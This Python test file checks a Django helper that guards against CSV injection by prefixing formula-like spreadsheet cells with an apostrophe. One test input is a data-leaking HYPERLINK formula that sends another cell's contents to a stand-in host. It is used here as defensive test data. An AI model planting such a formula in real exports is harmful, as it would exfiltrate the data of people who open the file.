"""Cells that a spreadsheet would take for a formula are written as text (OWASP's CSV-injection rule)."""

import datetime

import pytest
from django.utils.translation import gettext_lazy

from reflex.spreadsheet_cells import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x/?leak="&B2,"Cliquez")', "+33 6 12", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"],
)
def test_a_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Yasmine", "", " =1+1 inside", "1=1", 42, -3, 2.5, None, True, datetime.date.today()]
)
def test_everything_else_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_rows_and_lazy_labels():
    assert safe_row([gettext_lazy("=label"), "ok", -1]) == ["'=label", "ok", -1]
